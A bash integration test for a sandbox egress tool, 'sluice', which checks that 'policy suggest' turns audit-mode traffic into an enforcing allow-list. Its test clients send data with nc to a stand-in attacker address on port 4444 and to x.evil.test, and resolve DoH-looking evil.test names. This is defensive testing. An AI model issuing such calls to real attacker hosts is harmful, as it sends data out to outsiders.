#!/bin/bash
# 41-policy-suggest: a sandbox runs in audit mode under an empty policy;
# `sluice policy suggest` turns what it tried into an enforcing policy that
# lets the same clients through, and nothing it did not try.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init policy-suggest
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

echo '{"sluice": {"mode": "audit"}}' > "$TB_DIR/audit.json"
tb_check "sandbox add (audit mode, empty policy)" \
    tb_sandbox_add a "$TB_DIR/audit.json"
SB="${P}-a"

# The clients, run in audit mode and again under the suggested policy.
by_addr() {	# by address only: no name is bound to it yet
	echo "$1" | tb_in a nc -w 3 "$TB_ADDR_ATK" 4444 2>/dev/null
}
https_a() {
	tb_in a curl -s --max-time 5 --cacert "$TB_CA" https://a.test/
}
http_plain() {
	tb_in a curl -s --max-time 5 http://plain.test/
}
db() {
	tb_in a nc -w 3 db.test "$TB_PORT_DB" </dev/null 2>/dev/null
}
http_evil() {	# the attacker answers anything with "attacker"
	printf 'GET /%s HTTP/1.1\r\nHost: x.evil.test\r\n\r\n' "$1" |
	    tb_in a nc -w 3 x.evil.test 80 2>/dev/null
}

tb_assert_eq "$(by_addr audit-41)" "attacker" "audit: the address"
tb_assert_eq "$(https_a)" "hello from a.test" "audit: https://a.test/"
tb_assert_eq "$(http_plain)" "hello from plain.test" "audit: http://plain.test/"
tb_assert_eq "$(db)" "db" "audit: db.test:$TB_PORT_DB"
tb_assert_eq "$(http_evil audit)" "attacker" "audit: x.evil.test:80"
# resolved only: four siblings under one parent, and a DoH-looking name
for n in a b c d; do
	tb_in a dig +short "$n.cdn.evil.test" >/dev/null
done
tb_in a dig +short doh.evil.test >/dev/null

tb_wait_rows "SELECT count(*) FROM flows WHERE sandbox = '$SB'" 5 >/dev/null
tb_wait_rows "SELECT count(*) FROM dns_queries WHERE sandbox = '$SB'
    AND qname = 'doh.evil.test'" 1 >/dev/null
tb_assert_eq "$(tb_sql "SELECT DISTINCT verdict FROM flows WHERE sandbox = '$SB'")" \
    "audit" "every flow was one audit mode let through"

suggest() {
	"$SLUICE" policy suggest --sandbox "$SB" --db "$TB_DIR/flows.db" "$@"
}
suggest -o "$TB_DIR/suggested.json" 2> "$TB_DIR/suggest.err"
tb_assert_eq "$?" 0 "policy suggest exits 0"
tb_assert_eq "$(cat "$TB_DIR/suggested.json")" '{
  "network": {
    "allowedDomains": [
      "doh.evil.test",
      "x.evil.test",
      "a.test",
      "db.test:5432",
      "plain.test",
      "*.cdn.evil.test"
    ]
  },
  "sluice": {
    "mode": "enforce",
    "allowedCidrs": [
      "203.0.113.66:4444"
    ]
  }
}' "the suggested policy, entry for entry"
tb_assert_eq "$(cat "$TB_DIR/suggest.err")" \
    "sluice: warning: doh.evil.test: looks like a DNS-over-HTTPS resolver — it resolves any name past sluice's resolver and carries data out in its queries" \
    "one warning, for the DoH-looking name, on stderr"
tb_assert_match "$("$SLUICE" policy check "$TB_DIR/suggested.json")" \
    "ok \(1 allowed cidrs, 6 allowed domains, 0 denied domains, mode enforce\)" \
    "sluice policy check accepts it"
tb_assert_eq "$(suggest 2>/dev/null | cmp - "$TB_DIR/suggested.json" && echo same)" \
    "same" "standard output gets the same text as -o"

suggest --strict -o "$TB_DIR/strict.json" 2> "$TB_DIR/strict.err"
tb_assert_eq "$(grep -c doh "$TB_DIR/strict.json")" 0 \
    "--strict leaves the flagged name out"
tb_assert_match "$(cat "$TB_DIR/strict.err")" \
    "doh.evil.test: .* \(left out: --strict\)$" "and says so"
tb_assert_match "$("$SLUICE" policy check "$TB_DIR/strict.json")" \
    "5 allowed domains" "the strict one passes the check too"

"$SLUICE" policy suggest --sandbox "${P}-never" --db "$TB_DIR/flows.db" \
    >/dev/null 2>&1
tb_assert_eq "$?" 1 "a sandbox never recorded: exit 1"
"$SLUICE" policy suggest --sandbox "$SB" --db "$TB_DIR/none.db" \
    >/dev/null 2>&1
tb_assert_eq "$?" 1 "a missing database: exit 1"
"$SLUICE" policy suggest --db "$TB_DIR/flows.db" >/dev/null 2>&1
tb_assert_eq "$?" 1 "no --sandbox: exit 1"

# Enforce it: the same clients work, what was never tried does not.
tb_check "policy set the suggestion" \
    tb_sluice policy set "$SB" "$TB_DIR/suggested.json"
tb_assert_match "$(tb_sluice sandbox list)" "$SB .*enforce" "list shows enforce"
tb_assert_eq "$(by_addr enforced-41)" "attacker" "enforce: the address"
atk_got() { tb_attacker_received | grep -c -- "$1"; }
tb_wait_count 1 3 atk_got enforced-41 >/dev/null
tb_assert_match "$(tb_attacker_received)" "enforced-41" \
    "and the attacker got the bytes"
tb_assert_eq "$(https_a)" "hello from a.test" "enforce: https://a.test/"
tb_assert_eq "$(http_plain)" "hello from plain.test" "enforce: http://plain.test/"
tb_assert_eq "$(db)" "db" "enforce: db.test:$TB_PORT_DB"
tb_assert_eq "$(http_evil enforced)" "attacker" "enforce: x.evil.test:80"

tb_assert_eq "$(tb_in a dig +short b.test)" "" "enforce: b.test does not resolve"
tb_in a curl -s --max-time 5 --cacert "$TB_CA" \
    --resolve "b.test:443:$TB_ADDR_HTTPS" https://b.test/ >/dev/null 2>&1
tb_check "enforce: b.test on a.test's address fails" [ $? != 0 ]
tb_in a nc -z -w 2 db.test 5433 2>/dev/null
tb_check "enforce: db.test on another port fails" [ $? != 0 ]
tb_assert_eq "$(grep -c 'sni=b.test' "$TB_DIR/nginx.access.log")" 0 \
    "nginx never saw b.test"

tb_wait_rows "SELECT count(*) FROM flows WHERE sandbox = '$SB'
    AND verdict = 'deny'" 2 >/dev/null
tb_assert_eq "$(tb_sql "SELECT dst_port, reason FROM flows
    WHERE sandbox = '$SB' AND verdict = 'deny' ORDER BY id")" \
"443|sni_not_allowed
5433|port_not_allowed" "the denials, logged"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE sandbox = '$SB'
    AND verdict = 'allow'")" 5 "the five clients allowed"
tb_assert_eq "$(tb_sql "SELECT DISTINCT rcode, verdict FROM dns_queries
    WHERE sandbox = '$SB' AND qname = 'b.test'")" "NXDOMAIN|deny" \
    "b.test: NXDOMAIN, denied"
tb_done
